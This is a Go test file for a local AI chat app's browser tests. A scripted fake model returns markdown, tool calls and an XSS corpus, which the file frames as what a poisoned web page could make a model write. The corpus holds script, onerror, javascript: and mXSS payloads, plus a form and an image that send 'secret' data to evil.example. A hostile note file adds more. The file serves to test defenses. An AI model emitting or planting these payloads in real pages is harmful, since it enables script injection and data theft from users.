//go:build browser

package server

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/localgpt-go/localgpt/internal/apitoken"
	"github.com/localgpt-go/localgpt/internal/llm"
	"github.com/localgpt-go/localgpt/internal/llm/llmtest"
	"github.com/localgpt-go/localgpt/internal/memory"
	"github.com/localgpt-go/localgpt/internal/session"
)

// The web page's browser tests (web-tests/*.test.js, headless Chromium)
// run against a server whose fake model answers from the last user
// message, so each test types what it needs and the tests do not depend
// on one another's order. Tags in the message pick the answer:
//
//	[tools]  text, memory_search, text, read_file, text: two tool rounds interleaved with text
//	[md]     the markdown sample (tables, lists, task lists, links, code)
//	[xss]    the attack corpus: what a poisoned page could make a model write
//	[slow]   a long answer in small pieces, slowly (stop)
//	[endless] the same, five times as long (typing while it streams)
//	[fail]   the provider fails after the first words
//	anything else: "You said: …"

// mdSample is markdown a model writes every day.
const mdSample = "## Plan for the garden\n\n" +
	"Here is **what to do** and *when*, with `tools` named inline.\n\n" +
	"| Plant | Month | Water |\n|:--|:--:|--:|\n| Roses | March | 2 l |\n| Tomatoes | May | 1 l |\n\n" +
	"1. Prune the roses\n2. Sow the tomatoes\n   - in pots first\n   - then outside\n\n" +
	"- [x] buy compost\n- [ ] fix the fence\n\n" +
	"> Water in the morning.\n\n" +
	"See [the RHS guide](https://www.rhs.org.uk/plants/roses) for more.\n\n" +
	"```python\ndef water(plant, litres=2):\n    \"\"\"Water a plant.\"\"\"\n    return f\"{plant}: {litres} l\"\n```\n\n" +
	"```go\nfunc main() { fmt.Println(\"hello\") }\n```\n"

// xssCorpus is what a page read with web_fetch could tell the model to
// write, to run code in the chat page: none of it may run, load or send
// anything (web-tests/markdown.test.js checks the page's window.pwned,
// its console and its network requests).
var xssCorpus = strings.Join([]string{
	`<script>window.pwned = "script tag"</script>`,
	`<img src=x onerror="window.pwned='img onerror'">`,
	`<svg onload="window.pwned='svg onload'"><circle r=5 /></svg>`,
	`<svg><script>window.pwned='svg script'</script></svg>`,
	`<iframe src="javascript:window.parent.pwned='iframe'"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>`,
	`<a href="javascript:window.pwned='js link'" id="xss-js-link">click me (javascript:)</a>`,
	`[markdown js link](javascript:window.pwned='md link')`,
	`[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`<a href="  JaVaScRiPt:window.pwned='mixed case'">mixed case</a>`,
	`<div onmouseover="window.pwned='event attribute'" id="xss-hover">hover here</div>`,
	`<p style="position:fixed;inset:0;background:red">styled takeover</p>`,
	`<form action="https://evil.example/steal"><input name=q value=secret><button id="xss-submit">Send</button></form>`,
	`![tracking pixel](https://evil.example/pixel.png?memory=secret)`,
	`<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">`,
	`<object data="javascript:window.pwned='object'"></object><embed src="javascript:window.pwned='embed'">`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mxss'">`,
	`<details open ontoggle="window.pwned='ontoggle'"><summary>open me</summary>x</details>`,
	`<a href="/api/sessions" class="login-needed">a link into the API, dressed as the page</a>`,
	"```html\n<script>window.pwned='inside a code block'</script>\n```",
	`<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<style>body{display:none}</style>`,
	`End of the corpus.`,
}, "\n\n")

// slowAnswer is long enough to stop halfway and to type while it streams.
var slowAnswer = strings.Repeat("The quick brown fox jumps over the lazy dog. ", 60)

// pageModel answers one model call of the browser tests.
func pageModel(r llmtest.Recorded) llmtest.Reply {
	var req struct {
		Messages []struct {
			Role    string          `json:"role"`
			Content json.RawMessage `json:"content"`
		} `json:"messages"`
	}
	if err := json.Unmarshal(r.Body, &req); err != nil || len(req.Messages) == 0 {
		return llmtest.HTTPError(400, "the page test's model could not read the request")
	}
	// The turn so far: the last user message and the tool rounds after it.
	user, rounds := "", 0
	for i := len(req.Messages) - 1; i >= 0; i-- {
		m := req.Messages[i]
		if m.Role == "tool" {
			rounds++
			continue
		}
		if m.Role == "user" {
			_ = json.Unmarshal(m.Content, &user)
			break
		}
	}
	usage := llmtest.Usage{Prompt: 120 + 40*rounds, Completion: 20}
	switch {
	case strings.Contains(user, "[tools]") && rounds == 0:
		return llmtest.Reply{Text: "First I search your notes.", Usage: usage,
			ToolCalls: []llmtest.Call{{ID: "call_search", Name: "memory_search", Args: `{"query":"zebra"}`}}}
	case strings.Contains(user, "[tools]") && rounds == 1:
		return llmtest.Reply{Text: "Now I read the note it found.", Usage: usage,
			ToolCalls: []llmtest.Call{{ID: "call_read", Name: "read_file", Args: `{"path":"notes/animals.md"}`}}}
	case strings.Contains(user, "[tools]"):
		return llmtest.Reply{Text: "The **zebra** has stripes, says `notes/animals.md`. To find the others:\n\n" +
			"```sh\ngrep -rn --include='*.md' zebra ~/.localgpt/workspace\n```\n", Usage: usage}
	case strings.Contains(user, "[md]"):
		return llmtest.Reply{Text: mdSample, ChunkSize: 7, Delay: 3 * time.Millisecond, Usage: usage}
	case strings.Contains(user, "[xss-tools]") && rounds == 0:
		// Tool names, arguments and results carrying markup: shown as text.
		return llmtest.Reply{Usage: usage, ToolCalls: []llmtest.Call{
			{ID: "call_hostile", Name: "read_file", Args: `{"path":"notes/hostile.md","note":"<img src=x onerror=\"window.pwned='args'\">"}`},
			{ID: "call_name", Name: `<img src=x onerror="window.pwned='tool name'">`, Args: `{}`},
		}}
	case strings.Contains(user, "[xss-tools]"):
		return llmtest.Reply{Text: "Read it.", Usage: usage}
	case strings.Contains(user, "[xss]"):
		return llmtest.Reply{Text: xssCorpus, ChunkSize: 40, Usage: usage}
	case strings.Contains(user, "[slow]"):
		return llmtest.Reply{Text: slowAnswer, ChunkSize: 6, Delay: 12 * time.Millisecond, Usage: usage}
	case strings.Contains(user, "[endless]"): // half a minute, for the typing measure: stopped when done
		return llmtest.Reply{Text: strings.Repeat(slowAnswer, 5), ChunkSize: 6, Delay: 12 * time.Millisecond, Usage: usage}
	case strings.Contains(user, "[fail]"):
		return llmtest.Reply{Text: "This answer starts well", ChunkSize: 23, Error: "the provider fell over"}
	}
	return llmtest.Reply{Text: "You said: " + user, Usage: usage}
}

// webFixture is a server for the page with a note to find and the
// scripted model, and the environment of its node test.
func webFixture(t *testing.T) (*fixture, []string) {
	t.Helper()
	chromium := os.Getenv("CHROMIUM")
	if chromium == "" {
		chromium = "/usr/bin/chromium"
	}
	if _, err := os.Stat(chromium); err != nil {
		t.Fatalf("chromium is not installed (apt-get install chromium, or set CHROMIUM): %v", err)
	}
	// The token is the one the server made in its state folder, as for a
	// user who never configured one; the page logs in with a one-time code.
	f := newFixture(t, "")
	notes := filepath.Join(f.paths.Workspace, "notes")
	if err := os.MkdirAll(notes, 0o700); err != nil {
		t.Fatal(err)
	}
	var garden strings.Builder
	garden.WriteString("# Garden\n\n")
	for i := 3; i <= 60; i++ {
		fmt.Fprintf(&garden, "Line %d of the garden notes.\n", i)
	}
	garden.WriteString("The zebra rose climbs the south wall.\n")
	for _, file := range []struct{ name, text string }{
		{"animals.md", "# Animals\n\nThe zebra has stripes.\n"},
		// A hostile note, for the tool results and the memory panel (markdown.test.js).
		{"hostile.md", "# Hostile\n\nokapixss <img src=x onerror=\"window.pwned='note'\"> <script>window.pwned='note script'</script> «x» <b>bold</b>\n"},
		{"garden.md", garden.String()},
	} {
		if err := os.WriteFile(filepath.Join(notes, file.name), []byte(file.text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	// Today's daily log, and a chat from long ago for the day groups.
	daily := filepath.Join(f.paths.Workspace, filepath.FromSlash(memory.DailyPath(time.Now())))
	if err := os.MkdirAll(filepath.Dir(daily), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(daily, []byte("# Today\n\n## 09:00\n\nWatered the roses before work.\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	seedTurns(t, f, time.Date(2025, 1, 15, 10, 0, 0, 0, time.Local), "Old notes about the boat", 2)
	seedTurns(t, f, time.Date(2025, 1, 16, 10, 0, 0, 0, time.Local), "Old notes about the bike", 2)
	f.llm.Respond(pageModel)
	shots := os.Getenv("LOCALGPT_SCREENSHOTS")
	if shots == "" {
		shots = t.TempDir()
	}
	t.Logf("screenshots: %s", shots)
	env := []string{"CHROMIUM=" + chromium, "LOCALGPT_SCREENSHOTS=" + shots,
		"LOCALGPT_LOGIN=" + f.hs.URL + "/login?code=" + apitoken.NewCode(f.token, time.Now())}
	return f, env
}

// seedTurns writes a session of n turns started at from, titled title
// ("" keeps the first message), with markdown and code in each answer.
func seedTurns(t *testing.T, f *fixture, from time.Time, title string, n int) string {
	t.Helper()
	st := session.NewStore(f.paths.Sessions)
	sess, err := st.Create("openai/gpt-4o-mini", from)
	if err != nil {
		t.Fatal(err)
	}
	for i := range n {
		q := llm.UserText(fmt.Sprintf("Question %d: how do I do step %d of the plan?", i, i))
		a := llm.AssistantText(fmt.Sprintf("Step %d:\n\n- do **this** first\n- then `that`\n\n```sh\necho step %d\n```\n", i, i))
		msgs := []llm.Message{q, a}
		at := from.Add(time.Duration(i) * time.Second)
		entries := make([]session.Entry, len(msgs))
		for j := range msgs {
			entries[j] = session.Entry{Type: session.TypeMessage, At: at, Message: &msgs[j]}
		}
		entries[1].Usage = &llm.Usage{PromptTokens: 100 + i, CompletionTokens: 30, TotalTokens: 130 + i}
		entries[1].Model = "openai/gpt-4o-mini"
		if err := sess.AppendTurn(at, session.TurnAnswered, "", entries...); err != nil {
			t.Fatal(err)
		}
	}
	sess.Close()
	if title != "" {
		if _, err := st.Rename(sess.ID(), title, from); err != nil {
			t.Fatal(err)
		}
	}
	return sess.ID()
}

// TestBrowserChat runs the page's features in Chromium at a desktop and a
// phone size (web-tests/browser.test.js).
func TestBrowserChat(t *testing.T) {
	f, env := webFixture(t)
	runNode(t, f, "browser.test.js", env...)
	// The model picked on the page is the model asked.
	picked := 0
	for _, c := range f.llm.Calls("/v1/chat/completions") {
		if c.JSON(t)["model"] == "fake-small" {
			picked++
		}
	}
	if picked != 2 { // once per size
		t.Fatalf("%d model calls went to the picked model, want 2", picked)
	}
}

// TestBrowserMarkdown renders the markdown sample and the attack corpus
// (web-tests/markdown.test.js).
func TestBrowserMarkdown(t *testing.T) {
	f, env := webFixture(t)
	runNode(t, f, "markdown.test.js", env...)
}

// TestBrowserSpeed measures first paint, opening a session of 500
// messages and typing while an answer streams (web-tests/speed.test.js);
// the figures are printed and written to docs/benchmarks.md by hand.
func TestBrowserSpeed(t *testing.T) {
	f, env := webFixture(t)
	id := seedTurns(t, f, time.Now().Add(-time.Hour), "A long conversation", 250) // 500 messages
	out := runNode(t, f, "speed.test.js", append(env, "LOCALGPT_LONG_SESSION="+id)...)
	for _, line := range strings.Split(out, "\n") {
		if i := strings.Index(line, "timing "); i >= 0 {
			t.Log(strings.TrimSpace(line[i:]))
		}
	}
}
